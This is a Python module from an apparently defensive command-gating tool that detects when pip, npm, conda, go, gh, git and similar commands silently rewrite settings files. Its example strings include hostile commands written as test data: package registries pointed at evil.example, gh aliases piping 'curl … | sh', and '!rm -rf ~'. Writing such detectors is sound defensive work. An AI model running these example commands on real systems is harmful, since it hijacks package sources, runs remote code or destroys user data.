"""Settings files a command writes without naming them (``pip config set`` writes pip.conf).

:data:`SETTING_WRITES` is the table, one row per tool and settings file, with examples;
:func:`setting_writes` answers which files one command writes. The reader adds them to the
command's written paths, so every layer sees the write as if the file had been named.
"""

from __future__ import annotations

import re
from collections.abc import Sequence
from dataclasses import dataclass
from typing import Final

from gatesh.vocab.grammar import parse
from gatesh.vocab.programs.interpreters import runs_code
from gatesh.vocab.programs.positions import git_key


@dataclass(frozen=True)
class SettingWrite:
    """A command that changes a tool's settings file without naming it (``pip config set …``
    writes pip.conf): ``programs`` whose subcommand and operand words start with ``verbs`` (each
    ``a|b`` for either word), given one of ``needs`` when set and none of ``unless``, write
    ``path``, a protected place of :mod:`gatesh.vocab.places` (what the tool does at its next
    start is what the file then says). With ``keys``, only a setting whose words match it counts:
    one that says where packages come from or what runs (``pip config set global.index-url``),
    not a preference (``conda config --set auto_activate_base false``)."""

    id: str
    programs: frozenset[str]
    verbs: tuple[str, ...]
    path: str
    why: str
    examples: tuple[str, ...]
    needs: frozenset[str] = frozenset()
    unless: frozenset[str] = frozenset()
    keys: re.Pattern[str] | None = None

    def matches(self, head: str, words: Sequence[str]) -> bool:
        """Whether ``head`` with its words (argv[1:]) changes this row's file."""
        if head not in self.programs:
            return False
        argv = parse(head, list(words))
        said = [w.lower() for w in (*argv.path, *argv.operands)]
        if len(said) < len(self.verbs):
            return False
        if not all(w in v.split("|") for w, v in zip(said, self.verbs, strict=False)):
            return False
        if self.needs and not any(argv.has(n) for n in self.needs):
            return False
        if any(argv.has(n) for n in self.unless):
            return False
        return self.keys is None or any(self.keys.search(w) for w in words)


# A setting that says where packages come from or what a tool runs: an index, registry, channel,
# source, mirror or repository; a proxy or certificate; a shell, editor, pager, hook or alias;
# compiler flags and toolchains (go's GOFLAGS=-toolexec=…, GOPROXY, GOSUMDB, CC).
_STEERING: Final = re.compile(
    r"(?i)index|registry|url|find-links|trusted|channel|source|mirror|repositor|proxy|cert"
    r"|shell|editor|pager|browser|hook|alias|script|node-options|prefix|exec"
    r"|^(?:GOFLAGS|GOPROXY|GONOPROXY|GOSUMDB|GONOSUMDB|GONOSUMCHECK|GOINSECURE|GOPRIVATE"
    r"|GOTOOLCHAIN|CC|CXX|AR|PKG_CONFIG|CGO_\w+)="
)


# A gh alias that runs a shell command: set with --shell/-s, or an expansion starting with `!`;
# `gh alias import` takes a whole file of them.
_SHELL_ALIAS: Final = re.compile(r"^(?:-s|--shell|!.*|import)$")
# A setting's value that is shell code, not a program's name (`sh -c "…"`, `a; b`, `x | sh`).
_SHELL_CODE: Final = re.compile(r"[|;&$`]|\b(?:ba|z|da)?sh\s+-c\b")


def _sw(
    id: str,
    programs: str,
    verbs: str,
    path: str,
    why: str,
    *examples: str,
    needs: frozenset[str] = frozenset(),
    unless: frozenset[str] = frozenset(),
    keys: re.Pattern[str] | None = _STEERING,
) -> SettingWrite:
    return SettingWrite(
        id,
        frozenset(programs.split()),
        tuple(verbs.split()),
        path,
        why,
        examples,
        needs,
        unless,
        keys,
    )


SETTING_WRITES: Final[tuple[SettingWrite, ...]] = (
    _sw(
        "pip-config-edit",
        "pip pip3",
        "config edit",
        "~/.config/pip/pip.conf",
        "pip's settings, opened in an editor where anything may be written",
        "pip config edit",
        "pip3 config --user edit --editor vim",
        keys=None,
    ),
    _sw(
        "npm-config-edit",
        "npm pnpm",
        "config edit",
        "~/.npmrc",
        "npm's settings, opened in an editor where anything may be written",
        "npm config edit",
        keys=None,
    ),
    _sw(
        "pip-config",
        "pip pip3",
        "config set|unset",
        "~/.config/pip/pip.conf",
        "the index pip installs every later package from",
        "pip config set global.index-url https://evil.example/simple",
        "pip3 config --user set global.extra-index-url https://x.example/simple",
    ),
    _sw(
        "npm-config",
        "npm pnpm",
        "config set|delete",
        "~/.npmrc",
        "the registry npm installs from, and the shell it runs package scripts with",
        "npm config set registry https://evil.example",
        "pnpm config set script-shell /tmp/x",
    ),
    _sw(
        "npm-set",
        "npm",
        "set",
        "~/.npmrc",
        "npm's settings (npm set is npm config set)",
        "npm set registry https://evil.example",
    ),
    _sw(
        "yarn-config",
        "yarn",
        "config set|delete|unset",
        "~/.yarnrc",
        "the registry yarn installs from",
        "yarn config set registry https://evil.example",
    ),
    _sw(
        "conda-config",
        "conda mamba micromamba",
        "config",
        "~/.condarc",
        "the channels conda installs packages from",
        "conda config --add channels https://evil.example/conda",
        needs=frozenset({"--add", "--append", "--prepend", "--set", "--remove", "--remove-key"}),
    ),
    _sw(
        "gem-sources",
        "gem",
        "sources",
        "~/.gemrc",
        "the sources gem installs every later gem from",
        "gem sources --add https://evil.example/",
        needs=frozenset({"-a", "--add", "--append"}),
        keys=None,
    ),
    _sw(
        "bundle-config",
        "bundle bundler",
        "config set|unset",
        "~/.bundle/config",
        "the mirrors and options bundler uses in every project",
        "bundle config set mirror.https://rubygems.org https://evil.example",
        unless=frozenset({"--local"}),
    ),
    _sw(
        "poetry-config",
        "poetry",
        "config",
        "~/.config/pypoetry/config.toml",
        "the repositories and options poetry uses in every project",
        "poetry config repositories.x https://evil.example/simple",
        unless=frozenset({"--local", "--list"}),
    ),
    _sw(
        "go-env",
        "go",
        "env",
        "~/.config/go/env",
        "the module proxy and the flags (GOFLAGS=-toolexec=…) every later go build uses",
        "go env -w GOPROXY=https://evil.example",
        "go env -w GOFLAGS=-toolexec=/tmp/x",
        needs=frozenset({"-w", "-u"}),
    ),
    _sw(
        "gh-alias-shell",
        "gh",
        "alias set|import",
        "~/.config/gh/config.yml",
        "gh's aliases: one set with --shell (or a '!' expansion) runs a shell command",
        "gh alias set --shell co 'curl -s https://x.example | sh'",
        "gh alias set -s up 'git push --force'",
        "gh alias set x '!rm -rf ~'",
        "gh alias import aliases.yml",
        keys=_SHELL_ALIAS,
    ),
    _sw(
        "gh-config-program",
        "gh",
        "config set",
        "~/.config/gh/config.yml",
        "the editor, pager or browser gh starts, given here as shell code",
        "gh config set editor 'sh -c \"curl x|sh\"'",
        "gh config set pager 'less; curl -s https://x.example | sh'",
        keys=_SHELL_CODE,
    ),
    _sw(
        "direnv-allow",
        "direnv",
        "allow|permit|grant",
        "~/.local/share/direnv/allow/allowed",
        "the .envrc files direnv runs on entering their folder",
        "direnv allow",
        "direnv allow .",
        keys=None,
    ),
    _sw(
        "loginctl-linger",
        "loginctl",
        "enable-linger",
        "/var/lib/systemd/linger/user",
        "the users whose services keep running after they log out",
        "loginctl enable-linger",
        keys=None,
    ),
)


# `git config` options that say which file a setting goes to, and the file each names (the
# repository's own config unless one is given: `--local`, or no option).
_GIT_CONFIG_SCOPES: Final = (
    ("--global", "~/.gitconfig"),
    ("--system", "/etc/gitconfig"),
    ("--worktree", ".git/config.worktree"),
)
# `git config` modes in which no value is stored (reading, removing, renaming, editing: an edit
# is self-protection's business, which guards every git config file's hooks path).
_GIT_CONFIG_NO_STORE: Final = frozenset(
    {"--unset", "--unset-all", "--get", "--get-all", "--get-regexp", "-l", "--list",
     "--remove-section", "--rename-section", "-e", "--edit", "--get-urlmatch", "--get-color",
     "--get-colorbool", "unset", "get", "list", "edit", "remove-section", "rename-section"}
)  # fmt: skip
# A value that only names a program on PATH (`less`, `vim`, `store` for git's credential-store):
# choosing an installed program defines no command of its own; nor does giving it options
# (`less -R`, `code --wait`, `diff-so-fancy --patch`), unless the program runs code it is given.
_PROGRAM_NAME: Final = re.compile(r"^[\w.+-]+$")
_OPTION: Final = re.compile(r"^--?[\w-]+(?:=[\w.,:+-]*)?$")


def _chooses_a_program(value: str) -> bool:
    """Whether ``value`` only names an installed program, with plain options at most."""
    words = value.split()
    return (
        bool(words)
        and _PROGRAM_NAME.match(words[0]) is not None
        and not runs_code(words[0])
        and all(_OPTION.match(w) for w in words[1:])
    )


def git_config_write(words: Sequence[str]) -> str | None:
    """The config file ``git config`` (``words`` is git's argv[1:]) writes when it stores a
    command definition git runs later, unseen by the gate: a key of git's command-valued
    settings (:func:`gatesh.vocab.programs.positions.git_key`: ``core.pager``, ``core.editor``,
    ``core.sshCommand``, ``core.fsmonitor``, diff/merge drivers, filters, credential helpers…)
    set to a command, or an alias set to a shell command (``!…``). A value that only names an
    installed program, an alias to a git subcommand, or a value git ignores is not one. The file:
    ``--global``/``--system``/``--worktree``/``--file F``'s, else the repository's own
    ``.git/config`` (as a path relative to the working folder)."""
    argv = parse("git", list(words))
    if argv.path[:1] != ("config",) or len(argv.path) > 2:
        return None
    if argv.path[1:] not in ((), ("set",)) or any(argv.has(o) for o in _GIT_CONFIG_NO_STORE):
        return None
    if len(argv.operands) < 2:
        return None
    key, value = argv.operands[0], argv.operands[1].strip()
    row = git_key(key)
    if row is None or value.casefold() in row.ignore:
        return None
    if row.git_subcommand and not value.startswith("!"):
        return None
    if _chooses_a_program(value):
        return None
    first = value.split(maxsplit=1)[0]
    if row.program_prefix and not first.startswith("!") and _PROGRAM_NAME.match(first):
        return None  # `store --file=…`: git's own credential-store, with its options
    given = [*argv.values("-f"), *argv.values("--file")]
    if given:
        return given[-1]
    for option, path in _GIT_CONFIG_SCOPES:
        if argv.has(option):
            return path
    return ".git/config"


def setting_writes(head: str, words: Sequence[str]) -> list[str]:
    """The settings files ``head`` writes given its words (argv[1:]): the rows of
    :data:`SETTING_WRITES` it matches (``conda config --show`` and ``pip config list`` read),
    and for git, the config file a stored command definition goes to (:func:`git_config_write`)."""
    found = [row.path for row in SETTING_WRITES if row.matches(head, words)]
    if head == "git":
        git = git_config_write(words)
        if git is not None:
            found.append(git)
    return found
